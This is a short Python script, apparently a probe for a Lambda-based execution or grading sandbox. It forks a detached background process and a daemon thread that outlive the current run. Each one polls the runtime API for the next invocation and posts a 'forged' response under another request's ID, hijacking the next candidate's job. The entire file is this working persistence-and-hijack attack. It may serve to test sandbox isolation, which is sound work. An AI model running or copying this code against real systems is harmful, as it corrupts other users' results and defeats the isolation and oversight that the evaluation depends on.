"""Stays behind as a process and as a thread, and answers the next candidate's event."""

import http.client
import os
import threading
import time


def wait_for_the_next():
    time.sleep(0.5)  # until our own event is answered
    connection = http.client.HTTPConnection("{API}", timeout=20)
    connection.request("GET", "/2018-06-01/runtime/invocation/next")
    answer = connection.getresponse()
    answer.read()
    other = answer.headers["Lambda-Runtime-Aws-Request-Id"]
    connection.request("POST", f"/2018-06-01/runtime/invocation/{other}/response", '"forged"')
    connection.getresponse()


try:
    if os.fork() == 0:
        os.setsid()
        wait_for_the_next()
        os._exit(0)
except OSError as error:
    print(type(error).__name__)
try:
    threading.Thread(target=wait_for_the_next, daemon=True).start()
except RuntimeError as error:
    print(type(error).__name__)
